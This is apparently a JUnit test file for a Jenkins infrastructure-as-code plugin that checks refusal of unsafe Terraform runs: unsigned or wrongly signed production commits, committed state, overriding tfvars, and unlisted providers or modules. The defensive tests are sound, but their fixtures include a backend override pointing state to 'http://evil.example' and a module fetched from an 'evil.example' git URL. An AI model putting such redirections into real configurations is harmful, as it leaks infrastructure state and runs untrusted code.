package io.jenkins.plugins.iac.cli;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.Assume;
import org.junit.BeforeClass;
import org.junit.ClassRule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

/** What the code of a run may be and who vouches for it, by plans of the real tool and commits of the real git. */
public class SourceCommandsTest {
    @ClassRule
    public static final TemporaryFolder TEMPORARY = new TemporaryFolder();

    private static Company company;
    private static String first;
    private static Path key;

    @BeforeClass
    public static void company() throws Exception {
        Company.tool();
        company = new Company(TEMPORARY.newFolder("c").toPath());
        String empty = "locals {\n  nothing = 1\n}\n";
        company.stack("dev/empty", "", empty)
                .stack("prod/signed", "", empty)
                .stack("dev/data-dir", "", empty)
                .file("dev/data-dir/.terraform/terraform.tfstate", "{}")
                .stack("dev/state", "", empty)
                .file("dev/state/terraform.tfstate", "{\"version\":4}")
                .stack("dev/values", "variables: {region: eu-west-1}", "variable \"region\" {}\n")
                .file("dev/values/evil.auto.tfvars", "region = \"evil\"\n")
                .stack("dev/backend", "", empty)
                .file(
                        "dev/backend/x_override.tf",
                        "terraform {\n  backend \"http\" {\n    address = \"http://evil.example\"\n  }\n}\n")
                .stack("dev/provider", "", "resource \"null_resource\" \"a\" {}\n")
                .stack("dev/module", "", "module \"a\" {\n  source = \"git::https://evil.example/a.git\"\n}\n")
                .stack("dev/broken", "", "resource \"terraform_data\" {\n")
                .writeCatalog();
        company.catalog("protectedRefs: [main]\n", "protectedRefs: [main]\n    allowedSigners: signers\n");
        company.catalog(
                "stacks:\n",
                "rules:\n  - {name: signed-only, when: \"environment.protected\", require: \"source.commitSigned\", message: \"production runs signed commits\"}\nstacks:\n");
        first = company.commit();
        company.commit();
        key = company.directory().resolve("key");
        Assume.assumeTrue(
                "skipped: no ssh-keygen on PATH",
                LocalSource.program("ssh-keygen").isPresent());
        Company.output(
                new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f", key + ""), 0);
        Files.writeString(
                company.directory().resolve("signers"),
                "alice@northstar.example " + Files.readString(Path.of(key + ".pub")));
    }

    private static Answer refused(String stack, String... words) throws Exception {
        Answer answer = company.plan(stack).fails(2, words);
        assertEquals("failed", answer.state());
        assertEquals("failed", answer.evidence().path("outcome").asText());
        assertFalse(answer.evidence().path("incidents").isEmpty());
        return answer;
    }

    @Test
    public void plan_headOfTheClone_isVerifiedInTheEvidence() throws Exception {
        Answer answer = company.plan("dev/empty").ends(0);
        assertEquals("no_changes", answer.state());
        assertTrue(answer.evidence().path("source").path("commitVerified").asBoolean());
    }

    @Test
    public void plan_commitThatIsNotHead_isNotVerifiedInTheEvidence() throws Exception {
        Answer older = company.plan("dev/empty", "branch", "main", first).ends(0);
        assertFalse(older.evidence().path("source").path("commitVerified").asBoolean());
        Answer unknown =
                company.plan("dev/empty", "branch", "main", "0".repeat(40)).ends(0);
        assertFalse(unknown.evidence().path("source").path("commitVerified").asBoolean());
    }

    @Test
    public void plan_unsignedCommitUnderARule_isRefused() throws Exception {
        company.commit();
        refused("prod/signed", "signed-only", "production runs signed commits");
    }

    @Test
    public void plan_commitOfAnAllowedSigner_isAdmitted() throws Exception {
        company.git(
                "-c",
                "gpg.format=ssh",
                "-c",
                "user.signingkey=" + key,
                "commit",
                "-q",
                "-S",
                "--allow-empty",
                "-m",
                "x");
        Answer answer = company.plan("prod/signed").ends(0);
        assertEquals("no_changes", answer.state());
        assertEquals(
                "yes", answer.evidence().path("source").path("commitSigned").asText());
    }

    @Test
    public void plan_commitOfAnotherSigner_isRefused() throws Exception {
        Path other = company.directory().resolve("other");
        Company.output(
                new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "mallory", "-f", other + ""),
                0);
        company.git(
                "-c",
                "gpg.format=ssh",
                "-c",
                "user.signingkey=" + other,
                "commit",
                "-q",
                "-S",
                "--allow-empty",
                "-m",
                "x");
        refused("prod/signed", "signed-only");
    }

    @Test
    public void plan_dataDirectoryCommitted_isRefused() throws Exception {
        refused("dev/data-dir", ".terraform");
    }

    @Test
    public void plan_stateCommitted_isRefused() throws Exception {
        refused("dev/state", "terraform.tfstate");
    }

    @Test
    public void plan_valuesThatOverrideTheCatalog_areRefused() throws Exception {
        refused("dev/values", "evil.auto.tfvars");
    }

    @Test
    public void plan_anotherBackendInAnOverride_isRefused() throws Exception {
        refused("dev/backend", "scan.backend", "x_override.tf");
    }

    @Test
    public void plan_unlistedProviderOrModule_isRefused() throws Exception {
        refused("dev/provider", "scan.provider", "null");
        refused("dev/module", "scan.module", "evil.example");
    }

    @Test
    public void plan_unparsableCode_isRefused() throws Exception {
        refused("dev/broken", "scan.syntax", "main.tf");
    }
}
